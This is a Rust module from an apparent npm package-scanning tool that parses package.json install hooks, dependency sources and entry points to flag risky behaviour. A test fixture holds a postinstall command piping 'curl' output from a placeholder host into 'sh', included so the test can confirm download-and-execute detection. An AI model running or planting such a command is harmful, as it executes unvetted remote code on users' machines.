//! Facts from `package.json`: install hooks (read as shell), dependencies and `bin`.

use std::collections::{BTreeMap, BTreeSet};

use turncoat_npm::Manifest;

use crate::facts::{DependencyFacts, DependencyKind, HookFacts, ManifestFacts, SpecSource};
use crate::shell;

/// How many levels of `npm run x` inside a hook are followed.
const MAX_SCRIPT_DEPTH: usize = 4;

pub(crate) fn facts(bytes: &[u8], binding_gyp: bool) -> ManifestFacts {
    let m = match Manifest::from_slice(bytes) {
        Ok(m) => m,
        Err(e) => {
            return ManifestFacts {
                parse_error: Some(turncoat_finding::sanitize_snippet(&e.to_string())),
                ..ManifestFacts::default()
            };
        }
    };
    let install_hooks = m
        .install_hooks(binding_gyp)
        .into_iter()
        .map(|(k, cmd)| (k, hook(&m.scripts, &cmd)))
        .collect();
    let prepare = m.scripts.get("prepare").map(|cmd| hook(&m.scripts, cmd));
    let mut dependencies = BTreeMap::new();
    for (kind, deps) in [
        (DependencyKind::Peer, &m.peer_dependencies),
        (DependencyKind::Optional, &m.optional_dependencies),
        (DependencyKind::Prod, &m.dependencies),
    ] {
        for (name, spec) in deps {
            dependencies.insert(
                name.clone(),
                DependencyFacts {
                    spec: spec.clone(),
                    kind,
                    source: spec_source(spec),
                },
            );
        }
    }
    ManifestFacts {
        parse_error: None,
        name: m.name.clone(),
        version: m.version.clone(),
        install_hooks,
        prepare,
        dependencies,
        bin: m.bin.clone(),
        entry_points: entry_points(&m),
    }
}

/// Most strings taken from `exports` (a hostile manifest may hold millions).
const MAX_EXPORT_TARGETS: usize = 256;

/// `main`, `bin` targets and the strings of `exports`, as package-relative paths.
fn entry_points(m: &Manifest) -> BTreeSet<String> {
    let mut raw: Vec<&str> = m.main.iter().map(String::as_str).collect();
    raw.extend(m.bin.values().map(String::as_str));
    let mut stack: Vec<&serde_json::Value> = m.exports.iter().collect();
    while let Some(v) = stack.pop() {
        if raw.len() >= MAX_EXPORT_TARGETS {
            break;
        }
        match v {
            serde_json::Value::String(s) => raw.push(s),
            serde_json::Value::Array(a) => stack.extend(a.iter()),
            serde_json::Value::Object(o) => stack.extend(o.values()),
            _ => {}
        }
    }
    raw.into_iter()
        .filter(|s| !s.contains('*'))
        .filter_map(shell::normalize)
        .collect()
}

/// Analyse a hook command, following `npm run <script>` into the package's other scripts.
fn hook(scripts: &BTreeMap<String, String>, command: &str) -> HookFacts {
    let mut facts = HookFacts {
        command: command.to_string(),
        ..HookFacts::default()
    };
    let mut queue = vec![(command.to_string(), 0usize)];
    let mut seen = Vec::new();
    while let Some((cmd, depth)) = queue.pop() {
        let s = shell::analyze(&cmd);
        facts.features.extend(s.features);
        facts.entry_files.extend(s.entry_files);
        facts.programs.extend(s.programs);
        if depth < MAX_SCRIPT_DEPTH {
            for called in s.calls_scripts {
                if !seen.contains(&called)
                    && let Some(body) = scripts.get(&called)
                {
                    queue.push((body.clone(), depth + 1));
                    seen.push(called);
                }
            }
        }
    }
    facts
}

/// Where a dependency spec points.
pub(crate) fn spec_source(spec: &str) -> SpecSource {
    let s = spec.trim();
    let lower = s.to_ascii_lowercase();
    if lower.starts_with("npm:") {
        SpecSource::Alias
    } else if lower.starts_with("workspace:") {
        SpecSource::Workspace
    } else if lower.starts_with("file:")
        || lower.starts_with("link:")
        || s.starts_with("./")
        || s.starts_with("../")
        || s.starts_with('/')
        || s.starts_with("~/")
    {
        SpecSource::File
    } else if lower.starts_with("git+")
        || lower.starts_with("git://")
        || lower.starts_with("github:")
        || lower.starts_with("gitlab:")
        || lower.starts_with("bitbucket:")
        || lower.starts_with("gist:")
        || lower.starts_with("git@")
        || (lower.starts_with("http") && (lower.ends_with(".git") || lower.contains(".git#")))
    {
        SpecSource::Git
    } else if lower.starts_with("http://") || lower.starts_with("https://") {
        SpecSource::Url
    } else if is_github_shorthand(s) {
        SpecSource::Git
    } else {
        SpecSource::Registry
    }
}

/// `user/repo` or `user/repo#ref`: npm reads it as a GitHub dependency.
fn is_github_shorthand(s: &str) -> bool {
    let base = s.split('#').next().unwrap_or(s);
    match base.split_once('/') {
        Some((user, repo)) => {
            !user.is_empty()
                && !repo.is_empty()
                && !repo.contains('/')
                && !user.starts_with('@')
                && [user, repo].iter().all(|p| {
                    p.bytes()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
                })
        }
        None => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts::ShellFeature;

    #[test]
    fn sources() {
        assert_eq!(spec_source("^1.2.3"), SpecSource::Registry);
        assert_eq!(spec_source("latest"), SpecSource::Registry);
        assert_eq!(spec_source(">=1 <2 || 3.x"), SpecSource::Registry);
        assert_eq!(spec_source("npm:other@^1"), SpecSource::Alias);
        assert_eq!(
            spec_source("github:tanstack/router#abc123"),
            SpecSource::Git
        );
        assert_eq!(spec_source("tanstack/router#abc"), SpecSource::Git);
        assert_eq!(spec_source("git+https://x.example/r.git"), SpecSource::Git);
        assert_eq!(spec_source("https://x.example/p.tgz"), SpecSource::Url);
        assert_eq!(spec_source("file:../x"), SpecSource::File);
        assert_eq!(spec_source("workspace:*"), SpecSource::Workspace);
    }

    #[test]
    fn hooks_follow_npm_run() {
        let f = facts(
            br#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"npm run setup","setup":"node lib/setup.js && curl -s https://e.example | sh","prepare":"husky"},
                 "dependencies":{"a":"^1"},"optionalDependencies":{"b":"github:u/b#c"},"bin":"cli.js"}"#,
            false,
        );
        let h = &f.install_hooks["postinstall"];
        assert!(h.entry_files.contains("lib/setup.js"));
        assert!(h.features.contains(&ShellFeature::Download));
        assert!(h.features.contains(&ShellFeature::PipeToShell));
        assert_eq!(
            f.prepare.as_ref().map(|p| p.command.as_str()),
            Some("husky")
        );
        assert_eq!(f.dependencies["b"].source, SpecSource::Git);
        assert_eq!(f.dependencies["b"].kind, DependencyKind::Optional);
        assert_eq!(f.bin.get("x").map(String::as_str), Some("cli.js"));
    }

    #[test]
    fn broken_manifest_is_a_fact() {
        let f = facts(b"{not json", false);
        assert!(f.parse_error.is_some());
        assert!(f.install_hooks.is_empty());
        let gyp = facts(br#"{"name":"n"}"#, true);
        assert_eq!(gyp.install_hooks["install"].command, "node-gyp rebuild");
    }
}
